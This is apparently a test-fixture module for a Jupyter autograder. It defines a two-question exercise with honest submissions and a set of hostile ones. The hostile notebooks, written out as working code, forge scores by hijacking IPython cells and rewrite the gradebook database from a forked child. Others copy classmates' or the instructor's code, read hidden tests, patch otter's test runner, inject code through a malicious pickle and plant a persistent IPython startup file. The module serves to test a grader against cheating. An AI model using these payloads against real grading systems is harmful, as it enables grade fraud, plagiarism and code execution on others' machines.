"""A small exercise of 10 points in plain Python, and honest and hostile submissions to it.

A case is a notebook and the points that it deserves. Attacks come from ``tests/attacks`` if they answer questions of
this exercise; attacks on other graders, and accidents of honest students, are written here.
"""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from demo.attacks import read_attacks

EXERCISE = "small"
POINTS = {"output_size": 4, "maxout": 6}
ANSWERS = {
    "output_size": "def output_size(input_size, kernel_size, stride=1, padding=0):\n"
    "    return (input_size + 2 * padding - kernel_size) // stride + 1\n",
    "maxout": "def maxout(x, w1, b1, w2, b2):\n    return [max(w1 * a + b1, w2 * a + b2) for a in x]\n",
}
WRONG = {
    "output_size": "def output_size(input_size, kernel_size, stride=1, padding=0):\n    return -1\n",
    "maxout": "def maxout(x, w1, b1, w2, b2):\n    return []\n",
}
# Question → call → value, half of the points each: public, hidden.
TESTS: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    "output_size": (
        {"output_size(28, 5)": "24", "output_size(28, 5, 1, 2)": "28"},
        {"output_size(31, 7, 3)": "9", "output_size(64, 3, 2, 1)": "32"},
    ),
    "maxout": (
        {"maxout([1, 2], 1, 0, -1, 3)": "[2, 2]"},
        {"maxout([-5, 0, 5], 2, 1, -3, -1)": "[14, 1, 11]", "maxout([], 1, 1, 1, 1)": "[]"},
    ),
}
SHARED = (
    *("loop_at_top_level", "loop_in_a_power", "leave_at_once", "write_own_grade", "forge_replies", "signal_everybody"),
    *("abort", "fork_bomb", "leave_orphans", "hand_in_a_link", "hand_in_a_device", "hand_in_own_graded_cells"),
    *("hand_in_scripts", "hand_in_hostile_metadata"),
)


@dataclass(frozen=True)
class Case:
    """A submission: what it ``tries`` in one sentence, the points it deserves, and a change to its file, if any."""

    name: str
    tries: str
    deserves: int
    document: dict[str, Any]
    change: Callable[[Path], None] | None = None


def cases() -> Iterator[Case]:
    """Yield every case, honest ones first."""
    yield Case("honest", "Right answers, as the course gives them.", 10, notebook(ANSWERS))
    yield from _mishaps()
    yield from _aimed()
    for attack in read_attacks():
        if attack.name in SHARED:
            document = notebook(ANSWERS | attack.answers, attack.first)
            lost = sum(POINTS[question] for question in attack.answers)
            yield Case(
                attack.name, attack.tries, 0 if attack.file == "unreadable" else 10 - lost, document, attack.hand_in
            )


# --- Honest students ------------------------------------------------------------------------------


def _mishaps() -> Iterator[Case]:
    doubled = notebook(ANSWERS)
    doubled["cells"].insert(1, copy.deepcopy(doubled["cells"][0]))
    yield Case("copied cell", "An answer's cell was copied, with its id.", 10, doubled)
    bare = notebook(ANSWERS)
    for cell in bare["cells"]:
        cell["metadata"] = {}
    yield Case("lost metadata", "An editor dropped the cells' metadata.", 10, bare)

    def rename(path: Path) -> None:
        path.rename(path.with_name(f"{path.stem} (1).ipynb"))

    yield Case("renamed file", "The browser called the download `small (1).ipynb`.", 10, notebook(ANSWERS), rename)
    warning = "def maxout(x, w1, b1, w2, b2):\n    import warnings\n\n    warnings.warn('slow', stacklevel=1)\n"
    warned = ANSWERS | {"maxout": warning + ANSWERS["maxout"].partition("\n")[2]}
    yield Case("warning", "A right answer warns, on stderr.", 10, notebook(warned))


# --- Attacks on other graders ---------------------------------------------------------------------

_SKIP_TESTS = "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])"
_CLAIM = (
    "_shell = get_ipython()\n_shell.input_transformers_post.append(lambda lines: ['pass\\n'])\n"
    "_shell.events.register('post_run_cell', lambda result: _shell.displayhook(99))"
)
_LATE = """
import os, sqlite3, time
from pathlib import Path
here = Path.cwd()
books = [str(path) for folder in (here, *here.parents) for path in folder.glob("gradebook.db")]
if books and os.fork() == 0:
    os.setsid()
    for _ in range(100):
        time.sleep(0.3)
        try:
            with sqlite3.connect(books[0]) as book:
                book.execute("UPDATE grade SET extra_credit = 2 WHERE auto_score = max_score_cache")
        except sqlite3.OperationalError:
            try:
                with sqlite3.connect(books[0]) as book:
                    book.execute("UPDATE grade SET extra_credit = 1")
            except sqlite3.Error:
                pass
    os._exit(0)
"""
_BORROW = '''
import json
from pathlib import Path
def _sources():
    """Find cells of other notebooks that define what is asked."""
    here = Path.cwd()
    for folder in (here, *list(here.parents)[:3]):
        for path in sorted(folder.rglob("*.ipynb")):
            if {which} and "mallory" not in str(path):
                try:
                    for cell in json.loads(path.read_text())["cells"]:
                        source = "".join(cell["source"])
                        if "def output_size" in source or "def maxout" in source:
                            yield source
                except Exception:
                    continue
for _source in _sources():
    if "NotImplementedError" not in _source:
        exec(_source)
'''
_READ_TESTS = r"""
import re
from pathlib import Path
_known = {}
_here = Path.cwd()
for _folder in (_here, *list(_here.parents)[:3]):
    for _path in _folder.rglob("*"):
        if _path.suffix in (".py", ".db", ".ipynb") and _path.is_file():
            _text = _path.read_bytes().decode("utf-8", "replace")
            for _call, _value in re.findall(r"assert ((?:output_size|maxout)\([^=\n]*\)) == ([^\n\"\\]+)", _text):
                _known[_call.replace(" ", "")] = _value
def output_size(*arguments):
    return eval(_known["output_size(" + ",".join(map(repr, arguments)).replace(" ", "") + ")"])
def maxout(*arguments):
    return eval(_known["maxout(" + ",".join(map(repr, arguments)).replace(" ", "") + ")"])
"""
_PICKLE = """
import pickle
class _Results:
    def __reduce__(self):
        return exec, ("import sys; open('/tmp/case/ran-in-the-grader', 'w').write(' '.join(sys.argv))",)
_dump = pickle.dump
pickle.dump = lambda value, file, *a, **k: _dump(_Results(), file)
"""
_PATCH_OTTER = """
try:
    import otter.test_files.exception_test as _exceptions
    _exceptions.test_case.call_func = lambda self, *a, **k: None
except ImportError:
    pass
"""
_STARTUP = """
from pathlib import Path
folder = Path.home() / ".ipython" / "profile_default" / "startup"
folder.mkdir(parents=True, exist_ok=True)
(folder / "00-next.py").write_text("import builtins\\nbuiltins.max = lambda *a, **k: 0\\n")
"""


def _aimed() -> Iterator[Case]:
    """Yield attacks on the way other graders compute points."""
    yield Case("skip the tests", "Makes every later cell do nothing.", 0, notebook(WRONG, last=_SKIP_TESTS))
    yield Case("claim 99 points", "Makes every later cell show the number 99.", 0, notebook(WRONG, last=_CLAIM))
    yield Case("rewrite the gradebook late", "A child adds points when grading is over.", 10, notebook(ANSWERS, _LATE))
    for name, which in (
        ("run the instructor's source", "'source' in str(path)"),
        ("run a classmate's file", "'zoe' in str(path)"),
    ):
        borrowed = dict.fromkeys(ANSWERS, "") | {"output_size": _BORROW.replace("{which}", which)}
        yield Case(name, "Answers with the code that it finds there.", 0, notebook(borrowed))
    read = dict.fromkeys(ANSWERS, "") | {"output_size": _READ_TESTS}
    yield Case("read the tests", "Answers from a table of the tests that it finds.", 0, notebook(read))
    yield Case("patch the tests", "Replaces the code that runs tests in its process.", 0, notebook(WRONG, _PATCH_OTTER))
    yield Case("poison the results", "Replaces the pickled results by code.", 10, notebook(ANSWERS, last=_PICKLE))
    yield Case(
        "infect the next", "Leaves a start-up file that breaks later notebooks.", 10, notebook(ANSWERS, _STARTUP)
    )


# --- Notebooks ------------------------------------------------------------------------------------


def notebook(answers: dict[str, str], first: str = "", last: str = "") -> dict[str, Any]:
    """Return a student's notebook: answers, nbgrader's test cells as released, and the student's own cells."""
    own = {place: _cell(source, f"own-{place}", {}) for place, source in (("first", first), ("last", last)) if source}
    cells = [own["first"]] if first else []
    for question, points in POINTS.items():
        solution = _nbgrader(question, solution=True)
        cells.append(_cell(answers[question] or "pass\n", question, {"nbgrader": solution}))
        if last and question == "output_size":
            cells.append(own["last"])
        for kind in ("public", "hidden"):
            about = _nbgrader(f"{kind}-{question}", points=points / 2)
            cells.append(
                _cell(_asserts(question, kind) if kind == "public" else "", f"{kind}-{question}", {"nbgrader": about})
            )
    kernel = {"display_name": "Python 3", "language": "python", "name": "python3"}
    return {"cells": cells, "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5}


def source_notebook() -> dict[str, Any]:
    """Return the instructor's notebook, with solutions and hidden tests in nbgrader's regions."""
    document = notebook(ANSWERS)
    for cell in document["cells"]:
        kind, _, question = cell["id"].partition("-")
        if kind == "hidden":
            cell["source"] = f"### BEGIN HIDDEN TESTS\n{_asserts(question, 'hidden')}### END HIDDEN TESTS\n"
        elif cell["id"] in POINTS:
            head, _, body = cell["source"].partition("\n")
            cell["source"] = f"{head}\n    ### BEGIN SOLUTION\n{body}    ### END SOLUTION\n"
    return document


def _asserts(question: str, kind: str) -> str:
    tests = TESTS[question][kind == "hidden"]
    return "".join(f"assert {call} == {value}\n" for call, value in tests.items())


def _nbgrader(identity: str, *, solution: bool = False, points: float = 0) -> dict[str, Any]:
    about = {"grade": not solution, "solution": solution, "locked": not solution, "task": False, "schema_version": 3}
    return about | {"grade_id": identity} | ({} if solution else {"points": points})


def _cell(source: str, identity: str, metadata: dict[str, Any]) -> dict[str, Any]:
    about = {"id": re.sub(r"\W", "-", identity), "metadata": metadata, "execution_count": None, "outputs": []}
    return {"cell_type": "code", "source": source, **about}


def dump(document: dict[str, Any]) -> str:
    """Return the text of a notebook file."""
    return json.dumps(document, indent=1)
